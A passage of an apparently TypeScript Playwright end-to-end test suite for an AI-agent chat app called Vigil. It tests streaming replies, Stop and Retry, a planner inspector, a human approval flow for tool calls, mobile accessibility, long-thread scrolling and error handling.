    const threadId = await apiThread({ title: 'Slow history' });
    // Knowing when the app's subscription to the thread is in place.
    const bus = server.services.events;
    const subscribe = bus.subscribe.bind(bus);
    let subscribed = false;
    bus.subscribe = (id, handler, options) => {
      if (id === threadId) subscribed = true;
      return subscribe(id, handler, options);
    };
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    try {
      // A slow network: the server answers the history now, the page gets it late.
      let release!: () => void;
      const released = new Promise<void>((resolve) => (release = resolve));
      let historyRead = false;
      await page.route(`**/api/threads/${threadId}/history*`, async (route) => {
        const response = await route.fetch();
        historyRead = true;
        await released;
        await route.fulfill({ response });
      });
      await page.goto(`${server.url}/#chat/${threadId}`);
      await page.getByLabel('Access token').fill(ALICE.token);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await waitFor(() => historyRead && subscribed, 10_000, 'the history request and the subscription');
      expect((await server.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'sent during the load' } })).status).toBe(200);
      const log = page.getByRole('log', { name: 'Conversation' });
      await log.locator('article.assistant:not(.streaming)', { hasText: 'sent during the load' }).waitFor();
      const landed = page.waitForResponse((response) => response.url().includes('/history'));
      release();
      await landed;
      // Two frames: React has applied the page.
      await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
      expect(await log.locator('article.assistant:not(.streaming)', { hasText: 'sent during the load' }).count()).toBe(1);
    } finally {
      bus.subscribe = subscribe;
      await context.close();
    }
  });

  it('works at 375 px: threads behind a toggle, chat and views without serious axe violations', async () => {
    const threadId = await apiThread({ title: 'Phone' });
    const page = await signedIn(ALICE.token, 375, `#chat/${threadId}`);
    await page.getByRole('textbox', { name: 'Message' }).fill('hello from a phone');
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByRole('log', { name: 'Conversation' }).locator('article.assistant:not(.streaming)').waitFor();
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(375);
    // Every view's link on screen as it is, not only once something scrolls it into view.
    const offScreen = await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('link')
      .evaluateAll((links) =>
        links
          .filter((link) => {
            const box = link.getBoundingClientRect();
            return box.left < 0 || box.right > (globalThis as unknown as { innerWidth: number }).innerWidth;
          })
          .map((link) => link.textContent),
      );
    expect(offScreen).toEqual([]);
    await page.getByRole('button', { name: 'Threads' }).click();
    await page.getByRole('button', { name: 'New thread' }).waitFor();
    expect(await seriousViolations(page)).toEqual([]);
    for (const view of ['Approvals', 'Agents', 'Schedules', 'Webhooks', 'Memory']) {
      await page.getByRole('link', { name: view }).click();
      await page.getByRole('heading', { level: 1, name: view }).waitFor();
      expect(await seriousViolations(page), view).toEqual([]);
      expect(await page.evaluate('document.documentElement.scrollWidth'), view).toBeLessThanOrEqual(375);
    }
    await page.close();
  });

  it('with the local default user (no tokens configured) the app opens without signing in', async () => {
    const local = await startTestServer({ kind: 'sqlite' }, { environment: { VIGIL_AUTH_TOKENS: '' } });
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    try {
      const page = await context.newPage();
      await page.goto(`${local.url}/`);
      await page.getByRole('navigation', { name: 'Main' }).waitFor();
      expect(await page.getByLabel('Access token').count()).toBe(0);
      await page.getByRole('button', { name: 'New thread' }).click();
      await page.getByRole('textbox', { name: 'Message' }).fill('hi');
      await page.getByRole('button', { name: 'Send' }).click();
      await page.getByRole('log', { name: 'Conversation' }).locator('article.assistant:not(.streaming)').waitFor();
      expect(await page.getByRole('button', { name: 'Sign out' }).count()).toBe(0);
    } finally {
      await context.close();
      await local.destroy();
    }
  });

  describe('stop, retry and a live plan', () => {
    let scripted: TestServer;
    let providerDown = true;
    const plannerModel = new ScriptedChatModel({
      knowledge_plan: [noKnowledge],
      strategic_plan: [strategicPlan('Organise the trip', 'Book', 'Pack')],
      tactical_plan: [tacticalPlan(step('book it', ['current_time'])), tacticalPlan(step('pack it', ['memory_write']))],
      executor_step: [execute([{ tool: 'current_time' }], true, 'booked'), execute([{ tool: 'memory_write', args: { content: 'Trip is packed' } }], true, 'packed')],
      tactical_critique: always(approve()),
      strategic_critique: [approve()],
      text: ['The trip is organised.'],
    });

    beforeAll(async () => {
      // "demo" streams slowly enough to stop mid-reply; "openai:flaky" fails until the provider is back.
      scripted = await startTestServer(
        { kind: 'sqlite' },
        {
          models: (spec) =>
            spec === 'openai:planner'
              ? plannerModel
              : spec === 'openai:flaky' && providerDown ? new FakeStreamingChatModel({ thrownErrorString: 'provider is down' }) : new DemoChatModel({ tokenDelayMs: spec === 'demo' ? 150 : 0 }),
        },
      );
    });
    afterAll(async () => {
      await scripted?.destroy();
    });

    async function open(threadId: string): Promise<Page> {
      const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
      await context.addInitScript((token) => localStorage.setItem('vigil.token', token), ALICE.token);
      const page = await context.newPage();
      page.on('close', () => void context.close().catch(() => undefined)); // the browser may close first
      await page.goto(`${scripted.url}/#chat/${threadId}`);
      await page.getByRole('textbox', { name: 'Message' }).waitFor();
      return page;
    }

    it('Stop cancels a streaming reply: the run ends cancelled and the draft goes', async () => {
      expect((await scripted.request('POST', '/api/agents', { body: { id: 'slow', name: 'Slow', model: 'demo' } })).status).toBe(201);
      const threadId = (await scripted.request('POST', '/api/threads', { body: { agentId: 'slow' } })).body.id as string;
      const page = await open(threadId);
      await page.getByRole('textbox', { name: 'Message' }).fill('a long answer please');
      await page.getByRole('button', { name: 'Send' }).click();
      await page.locator('article.streaming').waitFor();
      await page.getByRole('button', { name: 'Stop' }).click();
      await waitFor(async () => ((await scripted.request('GET', `/api/threads/${threadId}/runs`)).body.runs as Json[])[0]?.status === 'cancelled', 10_000, 'the cancelled run');
      await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' });
      expect(await page.locator('article.streaming').count()).toBe(0);
      await page.close();
    });

    it('reloaded while a reply streams: the reply shows from its start with Stop, and the earlier exchange once; a message sent meanwhile shows pending until it lands', async () => {
      // An earlier exchange at once (its events are in the replay window too), then the agent slows down.
      expect((await scripted.request('POST', '/api/agents', { body: { id: 'reloaded', name: 'Reloaded', model: 'openai:quick' } })).status).toBe(201);
      const threadId = (await scripted.request('POST', '/api/threads', { body: { agentId: 'reloaded' } })).body.id as string;
      expect((await scripted.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'an earlier question' } })).status).toBe(200);
      expect((await scripted.request('PATCH', '/api/agents/reloaded', { body: { model: 'demo' } })).status).toBe(200);
      const page = await open(threadId);
      await page.getByRole('textbox', { name: 'Message' }).fill('one two three four five six seven eight nine ten eleven twelve thirteen fourteen fifteen');
      await page.getByRole('button', { name: 'Send' }).click();
      await page.locator('article.streaming', { hasText: 'You said' }).waitFor();
      await page.reload();
      const log = page.getByRole('log', { name: 'Conversation' });
      // The draft holds the reply from its first token (not only what streamed after the reload), and Stop is back.
      await log.locator('article.streaming', { hasText: '[demo model] You said: "one two' }).waitFor({ timeout: 5_000 });
      await page.getByRole('button', { name: 'Stop' }).waitFor({ timeout: 1_000 });
      expect(await log.locator('article.streaming').count()).toBe(1);
      expect(await log.locator('article.assistant:not(.streaming)').count()).toBe(1); // the earlier reply, once
      // A message sent meanwhile waits for the reply: it shows, pending, until it lands.
      await page.getByRole('textbox', { name: 'Message' }).fill('and then?');
      await page.getByRole('button', { name: 'Send' }).click();
      await log.locator('article.pending', { hasText: 'waits for the reply above' }).filter({ hasText: 'and then?' }).waitFor({ timeout: 1_000 });
      await page.getByRole('button', { name: 'Stop' }).click();
      await log.locator('article.user:not(.pending)', { hasText: 'and then?' }).waitFor();
      expect(await log.locator('article.pending').count()).toBe(0);
      await log.locator('article.streaming', { hasText: 'You said: "and' }).waitFor();
      await page.getByRole('button', { name: 'Stop' }).click();
      await page.getByRole('button', { name: 'Stop' }).waitFor({ state: 'detached' });
      expect(await log.locator('article.streaming').count()).toBe(0);
      expect(await log.locator('article.user').allTextContents()).toEqual([expect.stringContaining('an earlier question'), expect.stringContaining('one two three'), expect.stringContaining('and then?')]);
      expect(await log.locator('article.assistant').count()).toBe(1);
      await page.close();
    });

    it('a failed reply shows its error code with Retry; Retry sends again and the reply arrives', async () => {
      expect((await scripted.request('POST', '/api/agents', { body: { id: 'flaky', name: 'Flaky', model: 'openai:flaky' } })).status).toBe(201);
      const threadId = (await scripted.request('POST', '/api/threads', { body: { agentId: 'flaky' } })).body.id as string;
      const page = await open(threadId);
      await page.getByRole('textbox', { name: 'Message' }).fill('are you there?');
      await page.getByRole('button', { name: 'Send' }).click();
      const alert = page.getByRole('alert').filter({ hasText: 'MODEL_ERROR' });
      await alert.waitFor();
      providerDown = false;
      await alert.getByRole('button', { name: 'Retry' }).click();
      await page.getByRole('log', { name: 'Conversation' }).locator('article.assistant').waitFor();
      await expect(page.getByRole('log', { name: 'Conversation' }).locator('article.assistant').textContent()).resolves.toContain('You said: "are you there?"');
      expect(await page.getByRole('alert').filter({ hasText: 'MODEL_ERROR' }).count()).toBe(0);
      await page.close();
    });
  
    it('a plan shows live in the inspector: milestones, steps, tool calls, critic verdicts and how it ended', async () => {
      expect((await scripted.request('POST', '/api/agents', { body: { id: 'planner', name: 'Planner', kind: 'planner', model: 'openai:planner' } })).status).toBe(201);
      const threadId = (await scripted.request('POST', '/api/threads', { body: { agentId: 'planner' } })).body.id as string;
      const page = await open(threadId);
      await page.getByRole('button', { name: 'Inspector' }).click();
      await page.getByRole('textbox', { name: 'Message' }).fill('Organise my trip');
      await page.getByRole('button', { name: 'Send' }).click();
      const plans = page.getByRole('region', { name: 'Plans' });
      await plans.getByText('Organise the trip · completed').waitFor({ timeout: 20_000 });
      const text = (await plans.textContent()) ?? '';
      expect(text).toContain('Book · completed');
      expect(text).toContain('Pack · completed');
      expect(text).toContain('critic: approve');
      expect(text).toContain('tool current_time · succeeded');
      expect(text).toContain('tool memory_write · succeeded');
      await page.close();
    });
  });
  describe('approvals', () => {
    let model: ScriptedOpenAiServer;
    let withTools: TestServer;
    const toolResults = (request: RecordedRequest) => request.messages.filter((message) => message.role === 'tool');

    beforeAll(async () => {
      // A real ChatOpenAI against the scripted OpenAI-compatible server: the model asks for memory_write, then answers from the tool's result.
      model = await ScriptedOpenAiServer.start();
      model.respondWith((request) => {
        const [result] = toolResults(request);
        if (result) return { text: `Done: ${String(result.content).slice(0, 60)}` };
        const asked = JSON.stringify(request.messages.at(-1)?.content ?? '');
        return { toolCalls: [{ id: `call_${request.index}`, name: 'memory_write', arguments: { content: asked.includes('tea') ? 'Likes green tea' : 'Likes coffee' } }] };
      });
      withTools = await startTestServer({ kind: 'sqlite' }, scriptedModelOptions(model));
      const agent = await withTools.request('POST', '/api/agents', { body: { id: 'careful', name: 'Careful', tools: { approval: { memory_write: { attended: 'ask', timeoutMs: 600_000 } } } } });
      expect(agent.status, JSON.stringify(agent.body)).toBe(201);
    });
    afterAll(async () => {
      await withTools?.destroy();
      await model?.close();
    });

    async function openOn(width: number, hash: string, options: { fakeClock?: boolean } = {}): Promise<Page> {
      const context = await browser.newContext({ viewport: { width, height: 900 } });
      await context.addInitScript((token) => localStorage.setItem('vigil.token', token), ALICE.token);
      const page = await context.newPage();
      page.on('close', () => void context.close().catch(() => undefined));
      if (options.fakeClock) await page.clock.install(); // the page's timers run only as the test lets them
      await page.goto(`${withTools.url}/${hash}`);
      await page.getByRole('navigation', { name: 'Main' }).waitFor();
      return page;
    }

    it('I16: a pending tool call shows in its thread and in the inbox; a refused edit says why; approving runs the tool once and the reply arrives live', async () => {
      const threadId = (await withTools.request('POST', '/api/threads', { body: { agentId: 'careful', title: 'Tea' } })).body.id as string;
      const page = await openOn(1440, `#chat/${threadId}`);
      await page.getByRole('textbox', { name: 'Message' }).fill('Remember that I like tea');
      await page.getByRole('textbox', { name: 'Message' }).press('Enter');
      const waiting = page.getByRole('region', { name: 'Waiting for your approval' });
      const card = waiting.getByRole('article', { name: 'Run tool memory_write?' });
      await card.waitFor({ timeout: 20_000 });
      await expect(card.locator('pre').textContent()).resolves.toContain('Likes green tea');
      await expect(card.locator('.countdown').textContent()).resolves.toMatch(/^(9|10) min \d+ s$/);
      const [pending] = (await withTools.request('GET', `/api/approvals?threadId=${threadId}`)).body.approvals as Json[];
      expect(pending).toMatchObject({ status: 'pending', tool: 'memory_write' });
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Approvals 1 waiting' }).waitFor(); // the nav counts what waits
      expect(await seriousViolations(page)).toEqual([]);

      // An edit the tool's schema refuses: the server's 400 shows, and nothing is decided.
      await card.getByRole('button', { name: 'Edit arguments' }).click();
      await card.getByLabel('Edited arguments (JSON)').fill('{"content": ""}');
      await card.getByRole('button', { name: 'Approve with these arguments' }).click();
      await expect(card.getByRole('alert').textContent()).resolves.toContain('APPROVAL_ARGUMENTS_INVALID');
      expect((await withTools.request('GET', `/api/approvals/${pending!.id}`)).body.status).toBe('pending');
      await card.getByRole('button', { name: 'Cancel' }).click();

      // The inbox lists it too, across threads.
      await page.getByRole('link', { name: 'Approvals' }).click();
      await page.getByRole('heading', { level: 1, name: 'Approvals' }).waitFor();
      const inboxCard = page.getByRole('article', { name: 'Run tool memory_write?' });
      await inboxCard.waitFor();
      await expect(inboxCard.getByRole('link', { name: 'Open the thread' }).getAttribute('href')).resolves.toBe(`#chat/${threadId}`);
      expect(await seriousViolations(page)).toEqual([]);

      // Back in the thread, by keyboard: Approve.
      await inboxCard.getByRole('link', { name: 'Open the thread' }).click();
      const approve = page.getByRole('region', { name: 'Waiting for your approval' }).getByRole('button', { name: 'Approve', exact: true });
      await approve.focus();
      await page.keyboard.press('Enter');
      const reply = page.getByRole('log', { name: 'Conversation' }).locator('article.assistant:not(.streaming)').filter({ hasText: 'Done:' });
      await reply.waitFor({ timeout: 20_000 });
      await page.getByRole('region', { name: 'Waiting for your approval' }).waitFor({ state: 'detached' });
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Approvals', exact: true }).waitFor();
      const decided = (await withTools.request('GET', `/api/approvals/${pending!.id}`)).body;
      expect(decided).toMatchObject({ status: 'approved', channel: 'api', executed: true });
      const memories = (await withTools.request('GET', '/api/agents/careful/memories')).body.memories as Json[];
      expect(memories.map((memory) => memory.content)).toEqual(['Likes green tea']);
      await page.close();
    });

    it('at 375 px, a pending approval in its thread and the inspector (runs, envelope, next call) have no serious axe violations and fit the width', async () => {
      const threadId = (await withTools.request('POST', '/api/threads', { body: { agentId: 'careful', title: 'Phone approval' } })).body.id as string;
      expect((await withTools.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'Remember that I like tea' } })).status).toBe(200);
      const page = await openOn(375, `#chat/${threadId}`);
      await page.getByRole('region', { name: 'Waiting for your approval' }).getByRole('article', { name: 'Run tool memory_write?' }).waitFor();
      expect(await seriousViolations(page)).toEqual([]);
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(375);
      await page.getByRole('button', { name: 'Inspector', exact: true }).click();
      const inspector = page.getByRole('complementary', { name: 'Inspector' });
      await inspector.getByRole('table', { name: 'Tokens per part of the next model call' }).waitFor();
      await inspector.locator('li.run').first().getByText('Envelope the model read').click();
      expect(await seriousViolations(page)).toEqual([]);
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(375);
      await page.close();
    });

    it('the inbox at 375 px: reject with a message; a second decision on it is refused with 409, shown plainly', async () => {
      const threadId = (await withTools.request('POST', '/api/threads', { body: { agentId: 'careful', title: 'Coffee' } })).body.id as string;
      expect((await withTools.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'Remember that I like coffee' } })).status).toBe(200);
      const [pending] = (await withTools.request('GET', `/api/approvals?threadId=${threadId}&status=pending`)).body.approvals as Json[];
      expect(pending).toBeDefined();
      const page = await openOn(375, '#approvals', { fakeClock: true });
      const card = page.locator(`[data-approval-id="${pending!.id}"]`);
      await card.waitFor();
      expect(await seriousViolations(page)).toEqual([]);
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(375);
      // Someone else approves first (another tab, Telegram) while this page's inbox has not polled again: it still shows the request pending.
      await page.clock.pauseAt(new Date(Date.now() + 1000));
      expect((await withTools.request('POST', `/api/approvals/${pending!.id}/decision`, { body: { decision: 'approve' } })).status).toBe(200);
      await card.getByRole('button', { name: 'Reject' }).click();
      await card.getByLabel('Message for the agent (optional)').fill('Not now');
      await card.getByRole('button', { name: 'Reject with message' }).click();
      const alert = page.getByRole('alert').filter({ hasText: 'APPROVAL_ALREADY_DECIDED' });
      await alert.waitFor();
      await expect(alert.textContent()).resolves.toContain('decided first');
      expect((await withTools.request('GET', `/api/approvals/${pending!.id}`)).body.status).toBe('approved');
      await page.close();
    });
  });

  describe('a long thread, cut replies, newcomers, failures and focus', () => {
    const CAROL = { id: 'carol', token: 'carol-token-0123456789' };
    let fx: TestServer;
    let fragileDown = false;
    const cut = new CutShortModel();
    /** Replies with what does not fit a line: a long URL, a 2,000-letter word and a code block with a 400-character line. */
    const wide = new FakeStreamingChatModel({
      chunks: [new AIMessageChunk({ content: `See https://example.com/${'path/'.repeat(60)}end and ${'y'.repeat(2000)}.\n\n\`\`\`\nconst line = '${'x'.repeat(400)}';\n\`\`\`\n` })],
    });

    beforeAll(async () => {
      // openai:cut streams half a reply then breaks (and its retry waits for the test); openai:fragile fails while fragileDown; the rest answer at once.
      fx = await startTestServer(
        { kind: 'sqlite' },
        {
          environment: { VIGIL_AUTH_TOKENS: `${ALICE.id}:${ALICE.token},${BOB.id}:${BOB.token},${CAROL.id}:${CAROL.token}` },
          autonomy: { retryBackoffMs: 20 },
          models: (spec) =>
            spec === 'openai:cut' ? cut : spec === 'openai:wide' ? wide : spec === 'openai:fragile' && fragileDown ? new FakeStreamingChatModel({ thrownErrorString: 'provider is down' }) : new DemoChatModel({ tokenDelayMs: 0 }),
        },
      );
    });
    afterAll(async () => {
      cut.release();
      await fx?.destroy();
    });

    /** `before`: set up the page before it loads (a route for its requests or its WebSocket). */
    async function openAs(token: string, hash: string, before?: (page: Page) => Promise<void>): Promise<Page> {
      const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
      await context.addInitScript((stored) => localStorage.setItem('vigil.token', stored), token);
      const page = await context.newPage();
      page.on('close', () => void context.close().catch(() => undefined));
      page.on('pageerror', (error) => console.error('page error:', error.message));
      await before?.(page);
      await page.goto(`${fx.url}/${hash}`);
      await page.getByRole('navigation', { name: 'Main' }).waitFor();
      return page;
    }

    async function thread(body: Json, token = ALICE.token): Promise<string> {
      const response = await fx.request('POST', '/api/threads', { token, body });
      expect(response.status, JSON.stringify(response.body)).toBe(201);
      return response.body.id as string;
    }

    const LOG = "document.querySelector('[role=log]')";
    const fromBottom = async (page: Page) => (await page.evaluate(`${LOG}.scrollHeight - ${LOG}.scrollTop - ${LOG}.clientHeight`)) as number;
    const scrollTop = async (page: Page) => (await page.evaluate(`${LOG}.scrollTop`)) as number;
    const frames = (page: Page) => page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');

    it('a long thread: "Load earlier messages" reaches its first message and keeps what was on screen in place; new messages are followed at the bottom, not while scrolled up', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'quick', name: 'Quick', model: 'openai:quick' } })).status).toBe(201);
      const threadId = await thread({ agentId: 'quick', title: 'Long thread' });
      // 202 messages: more than the server gives in one page of history (200 at most).
      for (let index = 0; index < 101; index++) {
        expect((await fx.request('POST', `/api/threads/${threadId}/messages`, { body: { content: `note ${index} end` } })).status).toBe(200);
      }
      const page = await openAs(ALICE.token, `#chat/${threadId}`);
      const log = page.getByRole('log', { name: 'Conversation' });
      const note = (index: number) => log.locator('article.user p.plain', { hasText: new RegExp(`^note ${index} end$`) });
      await note(100).waitFor();
      await waitFor(async () => (await fromBottom(page)) <= 1, 5_000, 'the thread to open at its newest message');

      // Earlier messages on request, what was on screen staying where it was.
      const earlier = log.getByRole('button', { name: 'Load earlier messages' });
      await earlier.scrollIntoViewIfNeeded({ timeout: 5_000 });
      const anchor = await log.locator('article').first().getAttribute('data-message-id');
      const offset = async () => (await page.evaluate(`${LOG}.querySelector('[data-message-id="${anchor}"]').getBoundingClientRect().top - ${LOG}.getBoundingClientRect().top`)) as number;
      const before = await offset();
      await earlier.click();
      await waitFor(async () => (await log.locator('article').first().getAttribute('data-message-id')) !== anchor, 5_000, 'earlier messages');
      await frames(page);
      expect(Math.abs((await offset()) - before)).toBeLessThanOrEqual(2);
      await waitFor(
        async () => {
          if ((await note(0).count()) > 0) return true;
          if ((await earlier.count()) > 0) await earlier.click({ timeout: 2_000 }).catch(() => undefined);
          return false;
        },
        15_000,
        'the first message',
      );
      expect(await note(0).count()).toBe(1);
      expect(await log.locator('article.user').count()).toBe(101);

      // Scrolled up to read: a message arriving from elsewhere does not move the view.
      await page.evaluate(`${LOG}.scrollTop = 300`);
      await frames(page);
      const reading = await scrollTop(page);
      expect((await fx.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'from my phone while you read' } })).status).toBe(200);
      await log.locator('article.assistant:not(.streaming)', { hasText: 'from my phone while you read' }).waitFor();
      await frames(page);
      expect(await scrollTop(page)).toBe(reading);
      // …and a way down to it.
      await page.getByRole('button', { name: 'Jump to the newest messages' }).click();
      await waitFor(async () => (await fromBottom(page)) <= 1, 5_000, 'the view at the newest message');

      // At the bottom: the view follows what arrives.
      expect((await fx.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'one more from my phone' } })).status).toBe(200);
      await log.locator('article.assistant:not(.streaming)', { hasText: 'one more from my phone' }).waitFor();
      await waitFor(async () => (await fromBottom(page)) <= 1, 5_000, 'the view to follow the new message');

      // Scrolled up, the person writes: what they sent, and the reply, are brought into view.
      await page.evaluate(`${LOG}.scrollTop = 300`);
      await page.getByRole('button', { name: 'Jump to the newest messages' }).waitFor();
      await page.getByRole('textbox', { name: 'Message' }).fill('and what about this?');
      await page.getByRole('textbox', { name: 'Message' }).press('Enter');
      await log.locator('article.assistant:not(.streaming)', { hasText: 'and what about this?' }).waitFor();
      await waitFor(async () => (await fromBottom(page)) <= 1, 5_000, 'the view at the reply to what was sent');
      await page.close();
    });

    it('a reply cut short (message.retracted) leaves the screen at once, while the run goes on; its retry then lands whole', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'cutter', name: 'Cutter', model: 'openai:cut' } })).status).toBe(201);
      const threadId = await thread({ agentId: 'cutter', title: 'Cut short' });
      const page = await openAs(ALICE.token, `#chat/${threadId}`);
      const log = page.getByRole('log', { name: 'Conversation' });
      try {
        await page.getByRole('textbox', { name: 'Message' }).fill('tell me everything');
        await page.getByRole('button', { name: 'Send' }).click();
        const cutText = log.locator('article', { hasText: 'Half an answer' });
        await cutText.waitFor();
        cut.breakOff();
        // The stream broke: the server retracted those tokens and retries (held by the test), so the run is still going.
        await cutText.waitFor({ state: 'detached', timeout: 5_000 });
        expect(await page.getByRole('button', { name: 'Stop' }).count()).toBe(1);
      } finally {
        cut.release();
      }
      await log.locator('article.assistant:not(.streaming)', { hasText: 'The whole answer.' }).waitFor();
      expect(await log.textContent()).not.toContain('Half an answer');
      await page.close();
    });

    it("a newcomer's first thread is named after its agent (the default agent, made with the thread)", async () => {
      expect(((await fx.request('GET', '/api/agents', { token: BOB.token })).body.agents as Json[]).length).toBe(0);
      const page = await openAs(BOB.token, '#chat');
      await page.getByRole('button', { name: 'New thread' }).click();
      await page.getByRole('textbox', { name: 'Message' }).waitFor();
      const agent = (await fx.request('GET', '/api/agents/default', { token: BOB.token })).body as Json;
      expect(agent.name).toEqual(expect.any(String));
      const tag = page.locator('.pane-bar .agent-tag');
      await waitFor(async () => (await tag.textContent()) === agent.name, 5_000, `"${agent.name}" in the header, not "${await tag.textContent()}"`);
      await page.getByRole('textbox', { name: 'Message' }).fill('hello there');
      await page.getByRole('textbox', { name: 'Message' }).press('Enter');
      const reply = page.getByRole('log', { name: 'Conversation' }).locator('article.assistant:not(.streaming)');
      await reply.waitFor();
      await expect(reply.locator('.who').textContent()).resolves.toBe(agent.name);
      await page.close();
    });

    it('schedule and webhook cards name their agent and thread, as they are now', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'reporter', name: 'Morning reporter' } })).status).toBe(201);
      const threadId = await thread({ agentId: 'reporter', title: 'Standup notes' });
      const schedule = await fx.request('POST', '/api/schedules', {
        body: { name: 'standup', task: 'Ask for the notes', timing: { kind: 'cron', cron: '0 9 * * 1', timezone: 'UTC' }, agentId: 'reporter', target: 'thread', threadId },
      });
      expect(schedule.status, JSON.stringify(schedule.body)).toBe(201);
      const hook = await fx.request('POST', '/api/hooks', { body: { name: 'ci builds', taskTemplate: 'Build {{payload.status}}', agentId: 'reporter', threadId } });
      expect(hook.status, JSON.stringify(hook.body)).toBe(201);
      const page = await openAs(ALICE.token, '#schedules');
      const card = (name: string) => page.locator('li.card').filter({ has: page.getByRole('heading', { name }) });
      await card('standup').getByText('Morning reporter').waitFor({ timeout: 5_000 });
      await card('standup').getByText('Standup notes').waitFor({ timeout: 5_000 });
      // Renamed elsewhere (another tab, the API) while this page is open.
      expect((await fx.request('PATCH', '/api/agents/reporter', { body: { name: 'Evening reporter' } })).status).toBe(200);
      expect((await fx.request('PATCH', `/api/threads/${threadId}`, { body: { title: 'Standup minutes' } })).status).toBe(200);
      await page.getByRole('link', { name: 'Webhooks' }).click();
      await card('ci builds').getByText('Evening reporter').waitFor({ timeout: 5_000 });
      await card('ci builds').getByText('Standup minutes').waitFor({ timeout: 5_000 });
      await page.getByRole('link', { name: 'Schedules' }).click();
      await card('standup').getByText('Evening reporter').waitFor({ timeout: 5_000 });
      await card('standup').getByText('Standup minutes').waitFor({ timeout: 5_000 });
      await page.reload();
      await card('standup').getByText('Evening reporter').waitFor({ timeout: 5_000 });
      await card('standup').getByText('Standup minutes').waitFor({ timeout: 5_000 });
      await page.close();
    });

    it('a 401 from the API (the token no longer accepted) returns the person to sign in, saying why', async () => {
      const page = await openAs(ALICE.token, '#chat');
      await page.getByRole('button', { name: 'New thread' }).waitFor();
      // The session ends elsewhere: the token this page holds is no longer accepted.
      await page.evaluate("localStorage.setItem('vigil.token', 'revoked-token-0123456789')");
      await page.getByRole('link', { name: 'Schedules' }).click();
      await page.getByLabel('Access token').waitFor({ timeout: 5_000 });
      await expect(page.getByRole('alert').textContent()).resolves.toMatch(/sign in again/i);
      expect(await page.getByRole('navigation', { name: 'Main' }).count()).toBe(0);
      await page.close();
    });

    it('"New thread" refused by the server says so', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'ephemeral', name: 'Ephemeral' } })).status).toBe(201);
      const page = await openAs(ALICE.token, '#chat');
      await page.getByLabel('Agent for a new thread').selectOption('ephemeral');
      // Deleted elsewhere after this page listed it.
      expect((await fx.request('DELETE', '/api/agents/ephemeral')).status).toBe(204);
      const refused = await fx.request('POST', '/api/threads', { body: { agentId: 'ephemeral' } });
      expect(refused.status).toBe(404);
      await page.getByRole('button', { name: 'New thread' }).click();
      const alert = page.getByRole('complementary', { name: 'Threads' }).getByRole('alert');
      await alert.waitFor({ timeout: 5_000 });
      await expect(alert.textContent()).resolves.toContain(refused.body.error.code);
      await page.close();
    });

    it('an action the server refuses (Pause of a schedule already deleted elsewhere) says why next to its button', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'doomed', name: 'Doomed' } })).status).toBe(201);
      const schedule = await fx.request('POST', '/api/schedules', { body: { name: 'vanishing', task: 'Ask', timing: { kind: 'cron', cron: '0 9 * * 1', timezone: 'UTC' }, agentId: 'doomed' } });
      expect(schedule.status, JSON.stringify(schedule.body)).toBe(201);
      const page = await openAs(ALICE.token, '#schedules');
      const card = page.locator('li.card').filter({ hasText: 'vanishing' });
      await card.getByRole('button', { name: 'Pause vanishing' }).waitFor();
      // Deleted elsewhere after this page listed it: pausing it is refused.
      const gone = await fx.request('DELETE', `/api/schedules/${schedule.body.id}`);
      expect(gone.status).toBe(204);
      const refused = await fx.request('PATCH', `/api/schedules/${schedule.body.id}`, { body: { enabled: false } });
      expect(refused.status).toBe(404);
      const pause = card.getByRole('button', { name: 'Pause vanishing' });
      await pause.click();
      const pauseAlert = card.getByRole('alert').filter({ hasText: 'Not paused' });
      await pauseAlert.waitFor({ timeout: 5_000 });
      await expect(pauseAlert.textContent()).resolves.toContain(`${refused.body.error.code}: ${refused.body.error.message}`);
      // The refusal describes the button it belongs to, which is usable again.
      await expect(pause.getAttribute('aria-describedby')).resolves.toBe(await pauseAlert.getAttribute('id'));
      expect(await pause.getAttribute('aria-disabled')).toBeNull();
      expect((await fx.request('DELETE', '/api/agents/doomed')).status).toBe(204);
      await page.close();
    });

    it('a Delete answered 404 (deleted elsewhere meanwhile) takes the item off the page and says it was already gone: thread, agent, webhook, memory, schedule, follow-up', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'lapsed', name: 'Lapsed', autonomy: quickFollowUps(600_000) } })).status).toBe(201);
      expect((await fx.request('POST', '/api/agents', { body: { id: 'lapsed-too', name: 'Lapsed too' } })).status).toBe(201);
      const waiting = await thread({ agentId: 'lapsed', title: 'Waiting thread' });
      expect((await fx.request('POST', `/api/threads/${waiting}/messages`, { body: { content: 'hello' } })).status).toBe(200);
      const timer = ((await fx.request('GET', `/api/threads/${waiting}/timers`)).body.timers as Json[]).find((candidate) => candidate.state === 'pending');
      expect(timer).toBeDefined();
      const doomedThread = await thread({ agentId: 'lapsed', title: 'Doomed thread' });
      const memory = await fx.request('POST', '/api/agents/lapsed/memories', { body: { content: 'Forgotten elsewhere' } });
      expect(memory.status).toBe(201);
